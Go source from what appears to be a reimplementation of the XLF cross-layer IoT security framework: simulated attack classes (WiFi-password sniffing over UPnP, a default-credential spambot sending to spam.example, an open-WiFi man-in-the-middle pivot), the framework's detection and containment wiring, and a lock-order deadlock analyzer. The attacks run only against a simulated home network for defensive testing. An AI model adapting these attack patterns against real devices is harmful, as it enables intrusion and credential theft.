// UPnPSniff is Table II row 5: the coffee machine provisions WiFi over an
// unprotected UPnP exchange; a listener captures the WiFi password.
type UPnPSniff struct {
	Target string
	// WiFiPassword is what the provisioning exchange carries.
	WiFiPassword string
}

var _ Attack = (*UPnPSniff)(nil)

// Name implements Attack.
func (a *UPnPSniff) Name() string { return "coffee-upnp-sniff" }

// Layer implements Attack.
func (a *UPnPSniff) Layer() Layer { return LayerDevice }

// TableII implements Attack.
func (a *UPnPSniff) TableII() (string, string, string) {
	return "Unprotected channel", "Listens to UPnP", "Hijack password of Wi-Fi"
}

// Execute implements Attack.
func (a *UPnPSniff) Execute(env *Env) Result {
	d, err := env.Device(a.Target)
	if err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	if !d.HasOpenPort("upnp") {
		return Result{Attack: a.Name(), Blocked: "UPnP disabled"}
	}
	pw := a.WiFiPassword
	if pw == "" {
		pw = "home-wifi-passphrase"
	}
	// The device broadcasts its provisioning beacon; the attacker need
	// only listen (we reproduce the broadcast so taps record it).
	env.Net.Broadcast(netsim.Addr("lan:"+a.Target), func(dst netsim.Addr) *netsim.Packet {
		return &netsim.Packet{
			Src: netsim.Addr("lan:" + a.Target), Dst: dst, SrcPort: 1900, DstPort: 1900,
			Proto: "UPnP", Size: 180, Payload: []byte("SSID=home PSK=" + pw), App: "provisioning",
		}
	})
	env.MarkInjection("upnp-sniff", a.Target)
	return Result{
		Attack: a.Name(), Succeeded: true,
		Impact: "Hijack password of Wi-Fi",
		Loot:   map[string]string{"wifi-psk": pw},
	}
}

// MaliciousMail is Table II row 6: the fridge's generic authentication
// admits a malicious login that plants spam-sending code.
type MaliciousMail struct {
	Target string
	// Burst is how many spam messages the infection sends.
	Burst int
}

var _ Attack = (*MaliciousMail)(nil)

// Name implements Attack.
func (a *MaliciousMail) Name() string { return "fridge-malicious-mail" }

// Layer implements Attack.
func (a *MaliciousMail) Layer() Layer { return LayerDevice }

// TableII implements Attack.
func (a *MaliciousMail) TableII() (string, string, string) {
	return "Generic auth.", "Malicious code infection", "Send malicious mail"
}

// Execute implements Attack.
func (a *MaliciousMail) Execute(env *Env) Result {
	d, err := env.Device(a.Target)
	if err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	if !d.Creds.Default {
		return Result{Attack: a.Name(), Blocked: "credentials rotated"}
	}
	if !d.Login(d.Creds.User, d.Creds.Password) {
		return Result{Attack: a.Name(), Blocked: "login refused"}
	}
	d.Compromise("spambot")
	burst := a.Burst
	if burst <= 0 {
		burst = 50
	}
	for i := 0; i < burst; i++ {
		i := i
		env.Kernel.Schedule(time.Duration(i)*200*time.Millisecond, "spam", func() {
			env.Gateway.SendOut(env.Net, &netsim.Packet{
				Src: netsim.Addr("lan:" + a.Target), SrcPort: 2525,
				Dst: netsim.Addr(fmt.Sprintf("wan:mx-%d", i%25)), DstPort: 25,
				Proto: "SMTP", Size: 900,
				Payload: []byte("buy pills now http://spam.example/" + fmt.Sprint(i)),
				App:     "attack:spam",
			})
		})
	}
	env.MarkInjection("spam", a.Target)
	return Result{Attack: a.Name(), Succeeded: true, Impact: "Send malicious mail"}
}

// OpenWiFiMitM is Table II row 7: the oven joins an unsecured WiFi; a MitM
// on that network pivots to reach other home devices.
type OpenWiFiMitM struct {
	Target string
	// Pivot is the second device the attacker reaches through the oven's
	// network position.
	Pivot string
}

var _ Attack = (*OpenWiFiMitM)(nil)

// Name implements Attack.
func (a *OpenWiFiMitM) Name() string { return "oven-open-wifi-mitm" }

// Layer implements Attack.
func (a *OpenWiFiMitM) Layer() Layer { return LayerDevice }

// TableII implements Attack.
func (a *OpenWiFiMitM) TableII() (string, string, string) {
	return "Unsecured Wi-Fi", "MitM attack", "Access other devices"
}

// Execute implements Attack.
func (a *OpenWiFiMitM) Execute(env *Env) Result {
	d, err := env.Device(a.Target)
	if err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	// Hardened homes put the oven behind WPA2; the testbed marks the
	// open-network condition with the oven's cleartext HTTP port.
	open := false
	for _, p := range d.Ports {
		if p.Cleartext {
			open = true
		}
	}
	if !open {
		return Result{Attack: a.Name(), Blocked: "network encrypted (WPA2)"}
	}
	pivot, err := env.Device(a.Pivot)
	if err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	d.Compromise("mitm-foothold")
	// Lateral service sweep: the attacker pivots THROUGH the oven, so the
	// probes carry the oven's own address — which is also what lets the
	// network layer attribute the scan to it.
	for i := 0; i < 15; i++ {
		env.Net.Send(&netsim.Packet{
			Src: netsim.Addr("lan:" + a.Target), Dst: netsim.Addr("lan:" + a.Pivot),
			SrcPort: 6666, DstPort: 80 + i,
			Proto: "TCP", Size: 60, App: "attack:lateral-probe",
		})
	}
	_ = pivot
	env.MarkInjection("mitm-pivot", a.Target)
	return Result{Attack: a.Name(), Succeeded: true, Impact: "Access other devices"}
}

// TableIIAttacks returns one configured instance per Table II row, wired
// to the canonical catalog device IDs.
func TableIIAttacks() []Attack {
	return []Attack{
		&StaticPasswordMitM{Target: "bulb-1"},
		&BufferOverflow{Target: "wallpad-1", PayloadLen: 1024},
		&FirmwareModulation{Target: "cam-1"},
		&Rickrolling{Target: "cast-1"},
		&UPnPSniff{Target: "coffee-1"},
		&MaliciousMail{Target: "fridge-1", Burst: 40},
		&OpenWiFiMitM{Target: "oven-1", Pivot: "window-1"},
	}
}
