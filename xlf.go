// Package xlf is the public facade of the XLF cross-layer IoT security
// framework (Wang, Mohaisen, Chen — ICDCS 2019). It assembles the
// simulated smart home (internal/testbed) with every XLF security
// function — device-layer attestation and delegated authentication,
// network-layer NAC, IDS, encrypted DPI and traffic shaping,
// service-layer application verification and contextual analytics — and
// couples them through the XLF Core's correlation engine.
//
// Quickstart:
//
//	sys, err := xlf.New(xlf.Options{Seed: 1})
//	...
//	sys.Home.Run(10 * time.Minute)
//	for _, a := range sys.Core.Alerts() { fmt.Println(a) }
package xlf

import (
	"fmt"
	"math"
	"sort"
	"strings"
	"time"

	"xlf/internal/analytics"
	"xlf/internal/behavior"
	"xlf/internal/core"
	"xlf/internal/dpi"
	"xlf/internal/ids"
	"xlf/internal/netsim"
	"xlf/internal/obs"
	"xlf/internal/service"
	"xlf/internal/shaping"
	"xlf/internal/testbed"
	"xlf/internal/xauth"
)

// CoreAlert aliases the Core's alert type so facade consumers don't need
// to import internal/core for the OnAlert callback.
type CoreAlert = core.Alert

// Options configures a System.
type Options struct {
	// Seed drives all simulation randomness; equal seeds replay exactly.
	Seed int64
	// Flaws selects the vulnerable platform configuration. With XLF
	// protection enabled the flaws represent the legacy platform XLF has
	// to compensate for.
	Flaws service.Flaws
	// CoreConfig tunes the correlation engine; zero value = defaults.
	CoreConfig core.Config
	// ShapingLevel in [0,1] enables gateway traffic shaping (0 = off).
	ShapingLevel float64
	// ResolverMode is "DNS" or "DoT" for the gateway resolver.
	ResolverMode string
	// Users provisions the cloud authority; nil installs a default owner
	// and guest.
	Users []xauth.User
	// DisableProtection builds the testbed WITHOUT any XLF function —
	// the unprotected baseline for experiments.
	DisableProtection bool
	// AttestEvery sets the firmware attestation cadence (0 = 30s).
	AttestEvery time.Duration
	// LightweightEncryption enables the §IV-A2 device-layer function:
	// per-device sessions over negotiated Table III ciphers, with sealed
	// payloads and battery metering.
	LightweightEncryption bool
	// Tracer, when set, records cross-layer spans from every instrumented
	// component (kernel, network, devices, DPI, shaping, xauth, Core) into
	// one timeline on the simulation clock. Nil (the default) disables
	// tracing; the hot paths then pay only a nil check.
	Tracer *obs.Tracer
}

// System is a running XLF deployment over a simulated home.
type System struct {
	Home *testbed.Home
	Core *core.Core
	NAC  *core.NACPolicy
	Arch *core.Architecture

	IDS      *ids.Pipeline
	Rules    *dpi.RuleSet
	Monitors map[string]*behavior.Monitor

	// alphabets caches each device DFA's event vocabulary so telemetry
	// (readings outside the actuation alphabet) is not misjudged as an
	// illegal transition.
	alphabets map[string]map[string]bool

	// learned holds transition models for DFA-less devices (the Amazon
	// Echo case, §IV-B3), trained from their typical benign traces;
	// lastEvent tracks the previous event per such device.
	learned     map[string]*behavior.LearnedModel
	lastEvent   map[string]string
	lastEventAt map[string]time.Duration

	// rfSeen tracks recent radio activity per device (packets to or from
	// its LAN address). A cloud event with no RF evidence in its window
	// was injected at the service layer — the cross-layer spoof check.
	rfSeen map[string][]time.Duration

	// uplinkCount accumulates per-device uplink packets in the current
	// volume bin; uplinkBase holds each device's per-minute EWMA baseline
	// (§IV-C3: "irregular amounts of keep-alive packets on the device").
	uplinkCount map[string]int
	uplinkBase  map[string]*analytics.EWMA

	Authority *xauth.Authority
	Proxy     *xauth.Proxy
	Shaper    *shaping.Shaper

	correlator *analytics.Correlator
	ctx        analytics.Context

	// declaredRules records each app's declared automations for
	// application verification.
	declaredRules map[string][]service.Rule

	protected bool
}

// New builds the home and, unless DisableProtection is set, deploys the
// full XLF stack onto it.
func New(opts Options) (*System, error) {
	home, err := testbed.New(testbed.Config{
		Seed:                  opts.Seed,
		Flaws:                 opts.Flaws,
		ResolverMode:          opts.ResolverMode,
		LightweightEncryption: opts.LightweightEncryption && !opts.DisableProtection,
		Tracer:                opts.Tracer,
	})
	if err != nil {
		return nil, fmt.Errorf("xlf: build testbed: %w", err)
	}

	s := &System{
		Home:          home,
		Monitors:      make(map[string]*behavior.Monitor),
		alphabets:     make(map[string]map[string]bool),
		learned:       make(map[string]*behavior.LearnedModel),
		lastEvent:     make(map[string]string),
		lastEventAt:   make(map[string]time.Duration),
		rfSeen:        make(map[string][]time.Duration),
		uplinkCount:   make(map[string]int),
		uplinkBase:    make(map[string]*analytics.EWMA),
		declaredRules: make(map[string][]service.Rule),
		ctx:           analytics.Context{OutdoorTempF: 70, UserHome: true},
		protected:     !opts.DisableProtection,
	}

	users := opts.Users
	if users == nil {
		users = []xauth.User{
			{Name: "owner", Password: "owner-pw", Priv: xauth.Advanced, MFASecret: "owner-mfa"},
			{Name: "guest", Password: "guest-pw", Priv: xauth.Basic},
		}
	}
	s.Authority, err = xauth.NewAuthority([]byte("xlf-authority-key"), users)
	if err != nil {
		return nil, fmt.Errorf("xlf: authority: %w", err)
	}
	s.Proxy = xauth.NewProxy(s.Authority, xauth.DefaultProxyConfig())
	s.Authority.Tracer = opts.Tracer
	s.Proxy.Tracer = opts.Tracer

	if !s.protected {
		return s, nil
	}

	// ----- XLF Core with containment wired to real enforcement. -----
	s.NAC = core.NewNACPolicy()
	contain := core.Containment{
		BlockDevice: func(id string) { s.NAC.Block(netsim.Addr("lan:" + id)) },
		QuarantineDevice: func(id string) {
			s.NAC.Block(netsim.Addr("lan:" + id))
			if d, ok := home.Devices[id]; ok {
				d.Disinfect() // re-flash + isolate in the model
			}
		},
		RemoveApp: func(appID string) { home.Cloud.UninstallApp(appID) },
		RevokeTokens: func(id string) {
			for _, u := range users {
				s.Proxy.Evict(u.Name)
			}
		},
	}
	coreCfg := opts.CoreConfig
	if coreCfg.Window == 0 && coreCfg.AlertThreshold == 0 && coreCfg.LayerBonus == 0 {
		// Zero value means "defaults". Explicit ablations (e.g.
		// LayerBonus: 0) set the other fields and are preserved.
		coreCfg = core.DefaultConfig()
	}
	s.Core = core.New(coreCfg, contain)
	s.Core.Tracer = opts.Tracer

	// Correlation-driven token lifetimes (§IV-A1).
	s.Authority.LifetimePolicy = func(u xauth.User, deviceID string) time.Duration {
		return s.Core.TokenLifetimeFor(deviceID, time.Hour, home.Kernel.Now())
	}

	s.NAC.Tracer = opts.Tracer

	// ----- Constrained access (§IV-A3): deny-by-default NAC. -----
	for id, d := range home.Devices {
		for _, dom := range d.CloudDomains {
			s.NAC.Allow(netsim.Addr("lan:"+id), netsim.Addr("wan:"+dom))
		}
	}
	s.NAC.AllowInfra("wan:dns")
	// Repeated denials are a constrained-access signal: a device trying
	// to reach endpoints it was never enrolled for is exfiltrating,
	// beaconing, or spamming. Alone the signal stays below the alert
	// threshold; it corroborates other layers.
	s.NAC.OnDeny = func(pkt *netsim.Packet) {
		if dev := deviceOf(pkt.Src); dev != "" {
			s.Core.Ingest(core.Signal{
				Time:     home.Kernel.Now(),
				Layer:    core.Network,
				Source:   "nac",
				DeviceID: dev,
				Kind:     "nac-denial",
				Score:    0.5,
				Detail:   fmt.Sprintf("denied %s -> %s:%d", pkt.Src, pkt.Dst, pkt.DstPort),
			})
		}
	}
	home.Gateway.OutboundPolicy = s.NAC.GatewayHook()
	// Pre-NAT forward observation: uplink radio evidence per device (the
	// post-NAT taps only see the gateway's address).
	home.Gateway.OnForward = func(pkt *netsim.Packet) {
		if dev := deviceOf(pkt.Src); dev != "" {
			s.recordRF(dev, home.Kernel.Now())
			s.uplinkCount[dev]++
		}
	}
	// Per-minute uplink volume baselines: a device suddenly emitting far
	// more traffic than its learned norm is a device-layer anomaly
	// (spam bursts, exfiltration, flood participation).
	home.Kernel.Every(time.Minute, 0, "xlf-volume", func() { s.volumeTick() })

	// ----- Traffic shaping (§IV-B1). -----
	if opts.ShapingLevel > 0 {
		s.Shaper = shaping.New(home.Kernel, shaping.Level(opts.ShapingLevel))
		s.Shaper.SetTracer(opts.Tracer)
		home.Gateway.Shaper = s.Shaper.GatewayHook()
	}

	// ----- Network monitoring: IDS + DPI on the taps (§IV-B2/3). -----
	s.IDS = ids.DefaultPipeline()
	s.Rules, err = dpi.NewRuleSet(dpi.IoTMalwareRules())
	if err != nil {
		return nil, fmt.Errorf("xlf: rules: %w", err)
	}
	s.Rules.SetTracer(opts.Tracer)
	tap := func(dir netsim.TapDirection, pkt *netsim.Packet) {
		// Radio-activity bookkeeping for the RF-evidence spoof check
		// (LAN-side frames; uplink attribution comes from the gateway's
		// pre-NAT OnForward hook).
		for _, a := range []netsim.Addr{pkt.Src, pkt.Dst} {
			if dev := deviceOf(a); dev != "" {
				s.recordRF(dev, pkt.DeliveredAt)
			}
		}
		rec := netsim.PacketRecord{
			Time: pkt.DeliveredAt, Src: pkt.Src, Dst: pkt.Dst,
			SrcPort: pkt.SrcPort, DstPort: pkt.DstPort,
			Proto: pkt.Proto, Size: pkt.Size, Encrypted: pkt.Encrypted,
		}
		if !pkt.Encrypted {
			rec.DNSName = pkt.DNSName
			rec.Payload = pkt.Payload
		}
		for _, alert := range s.IDS.Process(rec) {
			s.ingestIDS(alert)
		}
		if dir == netsim.TapLAN && len(rec.Payload) > 0 {
			for _, det := range s.Rules.MatchPlain(rec.Payload) {
				s.ingestDPI(rec, det)
			}
		}
	}
	home.Net.AddTap(netsim.TapLAN, tap)
	home.Net.AddTap(netsim.TapWAN, tap)

	// ----- Behaviour profiling per device (§IV-B3). -----
	for id, d := range home.Devices {
		if d.Behavior == nil {
			if len(d.TypicalTraces) > 0 {
				s.learned[id] = behavior.Learn(d.TypicalTraces)
			}
			continue
		}
		m, err := behavior.NewMonitor(id, d.Behavior)
		if err != nil {
			return nil, fmt.Errorf("xlf: monitor %s: %w", id, err)
		}
		s.Monitors[id] = m
		alpha := make(map[string]bool)
		for _, e := range d.Behavior.Events() {
			alpha[e] = true
		}
		s.alphabets[id] = alpha
	}
	home.Cloud.EventMonitor = func(ev service.Event) { s.onEvent(ev) }
	home.Cloud.CommandMonitor = func(cmd service.Command) { s.onCommand(cmd) }

	// ----- Contextual analytics (§IV-C3). -----
	s.correlator = analytics.NewCorrelator(analytics.HomeRules())

	// ----- Device-layer attestation (§IV-A4). -----
	attest := opts.AttestEvery
	if attest <= 0 {
		attest = 30 * time.Second
	}
	home.Kernel.Every(attest, attest/8, "xlf-attest", func() { s.attest() })

	// ----- Architecture inventory for the figures. -----
	s.Arch = core.NewArchitecture(s.Core.Config().Deployment)
	for _, c := range core.StandardComponents() {
		s.Arch.Register(c)
	}
	if opts.Tracer != nil {
		opts.Tracer.Emit(obs.LayerCore, "deploy", "", s.Core.Config().Deployment)
	}
	return s, nil
}

// Protected reports whether the XLF stack is active.
func (s *System) Protected() bool { return s.protected }

// SetContext updates the third-party context (weather, presence) the
// contextual analytics correlate against.
func (s *System) SetContext(ctx analytics.Context) { s.ctx = ctx }

// Context returns the current third-party context.
func (s *System) Context() analytics.Context { return s.ctx }

// InstallApp installs a SmartApp and records its declared rules for
// application verification (§IV-C2).
func (s *System) InstallApp(app *service.SmartApp) error {
	if err := s.Home.Cloud.InstallApp(app); err != nil {
		return err
	}
	s.declaredRules[app.ID] = append([]service.Rule(nil), app.Rules...)
	return nil
}

// ingestIDS converts an IDS alert into a Core signal.
func (s *System) ingestIDS(a ids.Alert) {
	dev := deviceOf(a.Src)
	if dev == "" {
		dev = deviceOf(a.Dst)
	}
	s.Core.Ingest(core.Signal{
		Time:     a.Time,
		Layer:    core.Network,
		Source:   "ids:" + a.Detector,
		DeviceID: dev,
		Kind:     a.Detector,
		Score:    a.Confidence,
		Detail:   a.Detail,
	})
}

// ingestDPI converts a DPI detection into a Core signal.
func (s *System) ingestDPI(rec netsim.PacketRecord, det dpi.Detection) {
	dev := deviceOf(rec.Dst)
	if dev == "" {
		dev = deviceOf(rec.Src)
	}
	score := 0.7
	if det.Rule.Severity == dpi.SevCritical {
		score = 0.95
	}
	s.Core.Ingest(core.Signal{
		Time:     rec.Time,
		Layer:    core.Network,
		Source:   "dpi",
		DeviceID: dev,
		Kind:     "dpi:" + det.Rule.ID,
		Score:    score,
		Detail:   det.Rule.Name,
	})
}

// onEvent runs behaviour profiling over accepted platform events.
func (s *System) onEvent(ev service.Event) {
	s.scheduleRFCheck(ev)
	m, ok := s.Monitors[ev.DeviceID]
	if !ok {
		// DFA-less devices fall back to the learned transition model. A
		// long idle gap starts a fresh session: the first event after it
		// is not judged as a transition.
		if model, lok := s.learned[ev.DeviceID]; lok {
			now := s.Home.Kernel.Now()
			prev := s.lastEvent[ev.DeviceID]
			if last, ok := s.lastEventAt[ev.DeviceID]; ok && now-last > 30*time.Minute {
				prev = ""
			}
			s.lastEvent[ev.DeviceID] = ev.Name
			s.lastEventAt[ev.DeviceID] = now
			if prev != "" && !model.Seen(prev, ev.Name) {
				s.Core.Ingest(core.Signal{
					Time:     s.Home.Kernel.Now(),
					Layer:    core.Service,
					Source:   "behavior:learned",
					DeviceID: ev.DeviceID,
					Kind:     "unseen-transition",
					Score:    0.65,
					Detail:   fmt.Sprintf("transition %q -> %q never seen in benign traces", prev, ev.Name),
				})
			}
		}
		return
	}
	// Telemetry outside the actuation alphabet (sensor readings,
	// heartbeats) is not a state transition; it contributes only a weak
	// corroboration signal rather than an illegal-transition verdict.
	if !s.alphabets[ev.DeviceID][ev.Name] {
		s.Core.Ingest(core.Signal{
			Time:     s.Home.Kernel.Now(),
			Layer:    core.Service,
			Source:   "behavior:dfa",
			DeviceID: ev.DeviceID,
			Kind:     "unmodeled-event",
			Score:    0.3,
			Detail:   fmt.Sprintf("event %q outside the device's actuation alphabet", ev.Name),
		})
		return
	}
	if dev := m.Observe(ev.Name); dev != nil {
		s.Core.Ingest(core.Signal{
			Time:     s.Home.Kernel.Now(),
			Layer:    core.Service,
			Source:   "behavior:dfa",
			DeviceID: ev.DeviceID,
			Kind:     "illegal-transition",
			Score:    0.75,
			Detail:   fmt.Sprintf("event %q illegal in state %q", ev.Name, dev.State),
		})
	}
}

// volumeTick closes the current per-minute uplink bin for every device,
// compares it against the device's EWMA baseline, and raises a
// device-layer corroboration signal on strong exceedance.
func (s *System) volumeTick() {
	now := s.Home.Kernel.Now()
	ids := make([]string, 0, len(s.Home.Devices))
	for id := range s.Home.Devices {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	for _, id := range ids {
		count := float64(s.uplinkCount[id])
		s.uplinkCount[id] = 0
		base := s.uplinkBase[id]
		if base == nil {
			e, err := analytics.NewEWMA(0.2)
			if err != nil {
				continue
			}
			base = e
			s.uplinkBase[id] = base
		}
		z := base.ZScore(count)
		base.Update(count)
		// Judge only after warm-up, on large absolute bursts: jittered
		// keepalives wobble a little; spam/exfil bursts are 10x+. A
		// moderate exceedance is corroboration (0.55); a sustained
		// 20x-plus blowout is damning on its own (0.75) — that is
		// gigabytes/day from a lightbulb-class device.
		if base.Count() > 5 && count >= 10 && z > 6 {
			score := 0.55
			if count >= 20 && (z > 20 || math.IsInf(z, 1)) {
				score = 0.75
			}
			s.Core.Ingest(core.Signal{
				Time:     now,
				Layer:    core.Device,
				Source:   "volume",
				DeviceID: id,
				Kind:     "traffic-anomaly",
				Score:    score,
				Detail: fmt.Sprintf("uplink %d pkts/min vs baseline %.1f (z=%.1f)",
					int(count), base.Mean(), z),
			})
		}
	}
}

// recordRF notes radio activity for a device, keeping a short ring.
func (s *System) recordRF(dev string, at time.Duration) {
	hist := append(s.rfSeen[dev], at)
	if len(hist) > 16 {
		hist = hist[len(hist)-16:]
	}
	s.rfSeen[dev] = hist
}

// scheduleRFCheck verifies, a short grace period after a cloud event, that
// the device showed radio activity around the event time. Real device
// events always ride on packets; an event injected at the service layer
// (spoofing, even with a DFA-legal name) has none. The check runs deferred
// because legitimate event packets may still be in flight when the cloud
// publishes.
func (s *System) scheduleRFCheck(ev service.Event) {
	if _, isDevice := s.Home.Devices[ev.DeviceID]; !isDevice {
		return
	}
	const lookback = 5 * time.Second
	const grace = 2 * time.Second
	evTime := s.Home.Kernel.Now()
	dev := ev.DeviceID
	name := ev.Name
	s.Home.Kernel.Schedule(grace, "xlf-rf-check", func() {
		for _, t := range s.rfSeen[dev] {
			if t >= evTime-lookback && t <= evTime+grace {
				return // corroborated by radio activity
			}
		}
		s.Core.Ingest(core.Signal{
			Time:     s.Home.Kernel.Now(),
			Layer:    core.Device,
			Source:   "rf-evidence",
			DeviceID: dev,
			Kind:     "no-rf-evidence",
			Score:    0.75,
			Detail:   fmt.Sprintf("cloud event %q with no radio activity in [-%s,+%s]", name, lookback, grace),
		})
	})
}

// onCommand runs application verification and contextual analytics over
// every platform-issued command.
func (s *System) onCommand(cmd service.Command) {
	now := s.Home.Kernel.Now()

	// Application verification: app-issued commands must match a declared
	// rule of that app.
	if strings.HasPrefix(cmd.IssuedBy, "app:") {
		appID := strings.TrimPrefix(cmd.IssuedBy, "app:")
		declared := false
		for _, r := range s.declaredRules[appID] {
			if r.ActionDevice == cmd.DeviceID && r.ActionCommand == cmd.Name {
				declared = true
				break
			}
		}
		if !declared {
			s.Core.Ingest(core.Signal{
				Time:     now,
				Layer:    core.Service,
				Source:   "appverify",
				DeviceID: cmd.DeviceID,
				Kind:     "rogue-app:" + appID,
				Score:    0.9,
				Detail:   fmt.Sprintf("app %q issued undeclared %s on %s", appID, cmd.Name, cmd.DeviceID),
			})
		}
	}

	// Contextual analytics on actuations.
	if s.correlator != nil {
		for _, f := range s.correlator.Evaluate(cmd.DeviceID, cmd.Name, 0, s.ctx) {
			s.Core.Ingest(core.Signal{
				Time:     now,
				Layer:    core.Service,
				Source:   "analytics",
				DeviceID: f.DeviceID,
				Kind:     "context:" + f.Rule,
				Score:    f.Score,
				Detail:   fmt.Sprintf("%s (%s by %s)", f.Rule, cmd.Name, cmd.IssuedBy),
			})
		}
	}
}

// attest verifies every device's firmware fingerprint — XLF's device-layer
// malware detection (§IV-A4).
func (s *System) attest() {
	now := s.Home.Kernel.Now()
	// Sorted sweep order: signal ingestion order must not depend on map
	// iteration, or traces (and any order-sensitive correlation) would
	// differ between identically-seeded runs.
	ids := make([]string, 0, len(s.Home.Devices))
	for id := range s.Home.Devices {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	for _, id := range ids {
		d := s.Home.Devices[id]
		if s.NAC.Blocked(netsim.Addr("lan:" + id)) {
			continue // already contained
		}
		if !d.Firmware.Verify() {
			s.Core.Ingest(core.Signal{
				Time:     now,
				Layer:    core.Device,
				Source:   "attest",
				DeviceID: id,
				Kind:     "firmware-tamper",
				Score:    0.9,
				Detail:   "firmware fingerprint mismatch at attestation",
			})
		}
		if d.Compromised {
			// A resident-malware heuristic alone is circumstantial (a CPU
			// or memory anomaly, not a confirmed sample): below the alert
			// threshold by itself, it needs corroboration from another
			// layer — which is exactly the cross-layer design point.
			s.Core.Ingest(core.Signal{
				Time:     now,
				Layer:    core.Device,
				Source:   "attest",
				DeviceID: id,
				Kind:     "resident-malware",
				Score:    0.55,
				Detail:   "malware " + d.Malware + " resident",
			})
		}
	}
}

// deviceOf extracts the device ID from a LAN address ("lan:cam-1" ->
// "cam-1"); non-LAN addresses yield "".
func deviceOf(a netsim.Addr) string {
	const p = "lan:"
	str := string(a)
	if strings.HasPrefix(str, p) {
		id := strings.TrimPrefix(str, p)
		switch id {
		case "gw", "resolver", "attacker", "dnsbridge":
			return ""
		}
		return id
	}
	return ""
}

// Report summarises the deployment state for operators.
func (s *System) Report() string {
	var b strings.Builder
	fmt.Fprintf(&b, "XLF report at t=%s (protection: %v)\n", s.Home.Kernel.Now(), s.protected)
	delivered, dropped, bytes := s.Home.Net.Stats()
	fmt.Fprintf(&b, "network: %d delivered / %d dropped / %d bytes\n", delivered, dropped, bytes)
	if !s.protected {
		return b.String()
	}
	fmt.Fprintf(&b, "NAC denials: %d\n", s.NAC.Denials())
	alerts := s.Core.Alerts()
	fmt.Fprintf(&b, "alerts: %d\n", len(alerts))
	for _, a := range alerts {
		fmt.Fprintf(&b, "  %s\n", a)
	}
	if flagged := s.Core.FlaggedDevices(); len(flagged) > 0 {
		fmt.Fprintf(&b, "flagged devices: %s\n", strings.Join(flagged, ", "))
	}
	if len(s.Home.Sessions) > 0 {
		ids := make([]string, 0, len(s.Home.Sessions))
		for id := range s.Home.Sessions {
			ids = append(ids, id)
		}
		sort.Strings(ids)
		fmt.Fprintf(&b, "lightweight encryption sessions:\n")
		for _, id := range ids {
			fmt.Fprintf(&b, "  %-12s %s\n", id, s.Home.Sessions[id].Algorithm)
		}
	}
	return b.String()
}
