package analysis

// The interprocedural lock-acquisition order graph. XLF's layers share
// state guarded by per-type mutexes (core registry, obs tracer, netsim
// links); a deadlock between two of them freezes the whole gateway — the
// cheapest denial of service there is. This analysis builds a directed
// graph whose nodes are lock identities and whose edges record "A held
// while B acquired", then reports every edge that lies on a cycle.
//
// Lock identity is resolved through the type oracle: a field mutex is
// "pkgpath.Type.field" (one node per field, shared by every instance —
// the usual one-lock-per-object discipline makes that the right
// granularity for ordering), a package-level mutex is "pkgpath.var".
// Receivers the oracle cannot resolve are skipped, not guessed.
//
// Held sets flow through the CFG (forward may-analysis, union at joins)
// so `if c { a.Lock() } else { a.Lock() }` does not self-conflict, and a
// re-lock inside a loop is caught by the back edge. Deferred statements
// are skipped: a deferred Unlock releases at return, which keeps the
// lock correctly held for the rest of the function. Calls into functions
// with their own acquisitions contribute edges through a taint-style
// summary (the transitive set of locks a call may acquire), computed to
// a fixpoint across the module, so an A→B ordering in package x and a
// B→A ordering in package y still form a reportable cycle.
//
// Reports are per-edge with one witness per package, phrased by shape:
// self-edge (re-entrant Lock on a non-reentrant mutex), two-cycle
// (inconsistent order, with the opposite site named), longer cycle.
// A reviewed exception is waived with //xlf:allow-lockorder.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// AllowLockOrderMarker waives a lockorder finding on its line (or the
// whole function when placed in the doc comment).
const AllowLockOrderMarker = "xlf:allow-lockorder"

// LockOrder builds the module's lock-acquisition graph and reports
// cycles.
type LockOrder struct {
	graph    *CallGraph
	oracle   *typeOracle
	prepared bool
	// summaries maps funcKey → sorted lock ids the function may acquire,
	// transitively.
	summaries map[string][]string
	// edges maps held→acquired pairs to their witness sites.
	edges map[lockEdge][]lockWitness
	adj   map[string]map[string]bool
}

type lockEdge struct{ from, to string }

// lockWitness is one site where the edge's acquisition happened.
type lockWitness struct {
	pkg  *Package
	file *File
	pos  token.Pos
	loc  string // checkout-independent "importpath/file.go:line"
}

// NewLockOrder builds the analyzer on a shared call graph (nil builds
// a private one).
func NewLockOrder(g *CallGraph) *LockOrder {
	if g == nil {
		g = NewCallGraph()
	}
	return &LockOrder{
		graph:     g,
		oracle:    g.oracle,
		summaries: make(map[string][]string),
		edges:     make(map[lockEdge][]lockWitness),
		adj:       make(map[string]map[string]bool),
	}
}

// Name implements Analyzer.
func (l *LockOrder) Name() string { return "lockorder" }

// Doc implements Documented.
func (l *LockOrder) Doc() string {
	return "lock acquisition order must be consistent module-wide; cycles in the lock graph are potential deadlocks"
}

// followLockOrder follows plain, deferred and spawned calls — all run
// the callee's acquisitions eventually — but not calls inside nested
// literals (the literal runs as its own function, with nothing of the
// creator's held) and not fallback-resolved edges (a unique-name guess
// must not invent a deadlock).
func followLockOrder(e CallEdge) bool {
	return !e.Fallback && (e.Kind == EdgeCall || e.Kind == EdgeDefer || e.Kind == EdgeGo)
}

// Prepare implements ModuleAnalyzer: compute acquisition summaries to a
// fixpoint over the shared call graph, then walk every CFG recording
// held→acquired edges. Test files participate in summaries and edges
// like any other caller: a deadlock triggered from a test hangs CI
// just as hard (the graph indexes them for exactly this client).
func (l *LockOrder) Prepare(pkgs []*Package) {
	if l.prepared {
		return
	}
	l.prepared = true
	l.graph.Build(pkgs)

	// Direct acquisitions per function, skipping nested literals; the
	// graph's fixpoint makes them transitive.
	direct := make(map[string][]string)
	for _, key := range l.graph.Keys() {
		fn := l.graph.Func(key)
		pt := l.oracle.typesOf(fn.Pkg)
		set := make(map[string]bool)
		ast.Inspect(fn.Decl.Body, func(n ast.Node) bool {
			if _, isLit := n.(*ast.FuncLit); isLit {
				return false
			}
			if call, ok := n.(*ast.CallExpr); ok {
				if id, acquire, ok := lockIdOf(pt, call); ok && acquire {
					set[id] = true
				}
			}
			return true
		})
		if len(set) > 0 {
			ids := make([]string, 0, len(set))
			for id := range set {
				ids = append(ids, id)
			}
			sort.Strings(ids)
			direct[key] = ids
		}
	}
	l.summaries = l.graph.Fixpoint(direct, followLockOrder, 0)

